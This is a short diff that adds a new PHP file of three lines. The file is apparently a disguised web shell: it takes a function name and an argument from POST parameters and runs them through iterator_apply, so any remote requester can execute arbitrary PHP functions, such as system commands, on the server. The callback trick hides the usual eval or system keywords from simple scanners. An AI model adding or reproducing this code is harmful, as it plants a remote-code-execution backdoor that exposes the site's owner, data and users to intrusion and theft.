@@ -1,0 +1,3 @@
+<?php
+$it = new ArrayIterator(array($_POST['a']));
+iterator_apply($it, $_POST['f'], array($it));
